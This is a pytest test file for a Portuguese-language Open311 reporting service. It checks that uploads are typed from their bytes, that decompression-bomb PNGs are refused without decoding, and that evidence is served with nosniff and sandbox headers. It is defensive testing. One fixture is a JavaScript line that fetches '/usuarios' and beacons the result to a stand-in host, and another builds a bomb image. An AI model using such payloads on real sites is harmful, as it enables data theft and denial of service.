"""Hostile media: the type of an upload is decided from its bytes at upload (photos, videos and
PDF only); decompression bombs are refused by their dimensions before any decoding; evidence is
served with the type the server decided, `nosniff`, a CSP sandbox, and as an attachment unless
it is an image shown inline; public copies are made at upload, never on a public request."""
from __future__ import annotations

import io
import struct
import time
import tracemalloc

import aiohttp
import pytest
from PIL import Image
from sqlalchemy import select

from core import media
from core.services.cases.evidence import (EvidenceIn, attach, make_missing_public_copies,
                                   store_upload)
from core.storage.models import Case, Evidence
from tests.support.core_fixtures import jpeg
from tests.support.panel import CENTRE, Panel, new_case
from tests.support.hostile_media import HTML, SVG, bomb_png, png_chunk

KEY = "chave-open311-teste"
JS = b"fetch('/usuarios').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(4000)
PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF"


def png(size=(40, 30)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, (10, 200, 10)).save(buf, "PNG")
    return buf.getvalue()


# -- the one check ------------------------------------------------------------------------------

def test_type_is_decided_from_the_bytes_not_the_declared_type():
    assert media.identify(jpeg()).mime == "image/jpeg"
    assert media.identify(png()).mime == "image/png"
    assert media.identify(MP4) == media.Media("video/mp4", media.VIDEO)
    assert media.identify(PDF) == media.Media("application/pdf", media.PDF)
    for hostile in (HTML, SVG, JS, b"GIF89a" + bytes(20), b"PK\x03\x04" + bytes(40),
                    b"\xff\xd8" + bytes(200), b"\x00" * 100):
        with pytest.raises(media.MediaRefused) as refused:
            media.identify(hostile)
        assert "aceitamos apenas fotos" in refused.value.message
    with pytest.raises(media.MediaRefused, match="aceitamos apenas fotos .*PNG"):
        media.identify(PDF, (media.IMAGE,))  # a citizen's report takes photos only
    with pytest.raises(media.MediaRefused, match="vazio"):
        media.identify(b"")


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_decompression_bomb_is_refused_by_its_dimensions_without_decoding():
    bomb = bomb_png()
    assert len(bomb) < 1024 * 1024  # small on disk...
    tracemalloc.start()
    started = time.monotonic()
    with pytest.raises(media.MediaRefused) as refused:
        media.identify(bomb)
    elapsed = time.monotonic() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "grande demais" in refused.value.message and "50 megapixels" in refused.value.message
    assert peak < 20 * 1024 * 1024 and elapsed < 2  # ...and never decoded (144 MB)
    # Just over the limit (but under Pillow's own 2× error) is refused too, with its size.
    with pytest.raises(media.MediaRefused, match=r"8000 × 7000 pixels"):
        media.identify(_png_header(8000, 7000))
    assert Image.MAX_IMAGE_PIXELS == media.MAX_PIXELS  # any other decode stops at 2×


def _png_header(width: int, height: int) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IEND", b"")


async def test_store_upload_makes_the_public_copy_once_and_refuses_corrupt_images(core):
    stored = await store_upload(core, jpeg((1, 2, 3)))
    assert stored.mime == "image/jpeg" and stored.kind == media.IMAGE
    assert core.evidence.public_copy(stored.sha256).mime == "image/jpeg"  # made at upload
    before = sorted(p.name for p in core.evidence.root.rglob("*"))
    truncated = png((300, 200))[:120]  # a valid header, then the pixels stop
    with pytest.raises(media.MediaRefused, match="corrompido"):
        await store_upload(core, truncated)
    with pytest.raises(media.MediaRefused):
        await store_upload(core, bomb_png(), (media.IMAGE,))
    assert sorted(p.name for p in core.evidence.root.rglob("*")) == before  # nothing kept


# -- the panel's upload (Open311) and file responses ----------------------------------------------

def _form(data: bytes, declared: str) -> aiohttp.FormData:
    f = aiohttp.FormData()
    for k, v in (("api_key", KEY), ("service_code", "motor_vehicle"), ("lat", str(CENTRE[0])),
                 ("long", str(CENTRE[1]))):
        f.add_field(k, v)
    f.add_field("media", data, filename="foto.jpg", content_type=declared)
    return f


async def test_open311_post_refuses_active_content_and_bombs_with_a_clear_400(make_core):
    core = await make_core(open311_api_key=KEY)
    async with Panel(core).client() as c:
        for data, declared in ((HTML, "text/html"), (SVG, "image/svg+xml"),
                               (JS, "application/javascript"), (HTML, "image/jpeg"),
                               (bomb_png(), "image/png")):
            r = await c.post("/open311/v2/requests.json", data=_form(data, declared))
            assert r.status == 400, (declared, await r.text())
            text = (await r.json())[0]["description"]
            assert "aceitamos apenas fotos" in text or "grande demais" in text
        ok = await c.post("/open311/v2/requests.json", data=_form(png(), "text/html"))
        assert ok.status == 201, await ok.text()
    async with core.db.read() as s:
        assert (await s.execute(select(Evidence.mime))).scalars().all() == ["image/png"]
        assert len((await s.execute(select(Case))).scalars().all()) == 1


async def test_evidence_is_served_with_the_type_decided_by_the_server(panel, photo):
    """An old row that says text/html (as uploads declared before this check) still goes out
    as a download of unknown type, sandboxed; a photo is shown inline, a PDF is downloaded."""
    core = panel.core
    s = await new_case(core, photo, 1)
    html_sha = core.evidence.put(HTML)
    pdf_sha = core.evidence.put(PDF)
    async with core.db.unit_of_work() as ses:
        case = (await ses.execute(select(Case).where(Case.protocol == s.protocol))).scalar_one()
        await attach(core, ses, case.id, EvidenceIn(html_sha, "text/html", "photo"), None)
        await attach(core, ses, case.id, EvidenceIn(pdf_sha, "text/html", "document"), None)
    async with panel.client("bruno") as c:
        got = {sha: await c.get(f"/evidencias/{sha}")
               for sha in (html_sha, pdf_sha, photo(1).sha256)}
    html, pdf, img = got[html_sha], got[pdf_sha], got[photo(1).sha256]
    assert [r.status for r in got.values()] == [200, 200, 200]
    assert html.headers["Content-Type"] == "application/octet-stream"
    assert html.headers["Content-Disposition"].startswith("attachment")
    assert pdf.headers["Content-Type"] == "application/pdf"
    assert pdf.headers["Content-Disposition"].startswith("attachment")
    assert img.headers["Content-Type"] == "image/jpeg"
    assert img.headers["Content-Disposition"].startswith("inline")
    for r in got.values():
        assert r.headers["X-Content-Type-Options"] == "nosniff"
        csp = r.headers["Content-Security-Policy"]
        assert csp.startswith("sandbox") and "script-src" not in csp
        assert "default-src 'none'" in csp


async def test_public_requests_never_decode_an_image(panel):
    """GET /open311/v2/requests.json without login: a stored photo without its public copy
    (never made at upload) gets no media_url, and the request makes none."""
    core = panel.core
    sha = core.evidence.put(jpeg((9, 9, 9)))  # stored without the upload path's public copy
    s = await new_case(core, None, 4, photos=[EvidenceIn(sha, "image/jpeg", "photo")])
    async with panel.client() as c:
        rows = await (await c.get("/open311/v2/requests.json")).json()
    assert {r["service_request_id"]: r.get("media_url") for r in rows}[s.protocol] is None
    assert not core.evidence.path_of(sha).with_name(sha + ".public").exists()


async def test_photos_stored_before_the_rule_get_their_copy_from_the_operator_command(panel):
    core = panel.core
    old = core.evidence.put(jpeg((7, 7, 7)))
    bomb = core.evidence.put(bomb_png())
    await new_case(core, None, 5, photos=[EvidenceIn(old, "image/jpeg", "photo"),
                                          EvidenceIn(bomb, "image/png", "photo")])
    assert await make_missing_public_copies(core) == (1, 1)  # the bomb is never decoded
    assert core.evidence.public_copy(old).mime == "image/jpeg"
    assert await make_missing_public_copies(core) == (0, 1)  # made once
